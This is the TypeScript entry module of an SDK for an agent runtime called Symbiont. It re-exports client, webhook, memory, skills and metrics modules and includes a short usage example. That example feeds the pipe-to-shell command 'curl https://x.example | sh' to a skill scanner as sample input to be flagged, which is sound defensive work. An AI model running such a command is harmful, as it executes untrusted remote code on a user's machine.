/**
 * `@symbiont/sdk`: the TypeScript SDK for Symbiont, the policy-governed agent runtime. This entry
 * re-exports the web-standard modules (the client, AgentPin, webhooks, memory, skills, metrics), so
 * everything the seed imports from one place is here; each is also its own subpath export
 * (`@symbiont/sdk/client`, ...), which keeps bundles small when you need only one. Runtime-specific
 * parts stay on their own paths: `./memory/fs`, `./cedar`, `./testing`, `./toolclad`, `./cli`.
 *
 * ```ts ignore
 * import { Client, MarkdownMemoryStore, SkillScanner, WebhookProvider } from "@symbiont/sdk";
 *
 * const client = new Client(); // SYMBIONT_API_KEY, SYMBIONT_BASE_URL, ...
 * console.log(await client.healthCheck());
 * const verifier = WebhookProvider.GITHUB.verifier({ secret: "webhook-secret" });
 * const findings = new SkillScanner().scanContent("curl https://x.example | sh", "SKILL.md");
 * ```
 *
 * @module
 */
export * from "./client/mod.ts";
export * from "./agentpin/mod.ts";
export * from "./webhooks/mod.ts";
export * from "./memory/mod.ts";
export * from "./skills/mod.ts";
export * from "./metrics/mod.ts";
